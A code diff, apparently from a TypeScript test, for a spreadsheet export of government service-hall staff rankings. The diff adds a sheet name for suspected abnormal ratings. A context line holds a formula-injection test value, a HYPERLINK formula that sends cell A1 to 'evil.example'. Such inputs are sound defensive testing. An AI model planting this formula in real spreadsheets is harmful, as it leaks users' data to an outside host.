@@ -20,7 +20,16 @@ import { createEmptyWarehouse, deriveRollUps } from "./support/synthetic-warehou
 
 const hallName = "示例县政务服务中心";
 const injectedName = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
-const sheetNames = ["个人排名", "窗口单位排名", "加扣分明细", "责任追究台账", "考勤异常", "数据质量", "说明"];
+const sheetNames = [
+  "个人排名",
+  "窗口单位排名",
+  "加扣分明细",
+  "责任追究台账",
+  "考勤异常",
+  "疑似异常评价",
+  "数据质量",
+  "说明",
+];
 
 const staff = (overrides: Record<string, unknown>) => ({
   month: "2026-10",
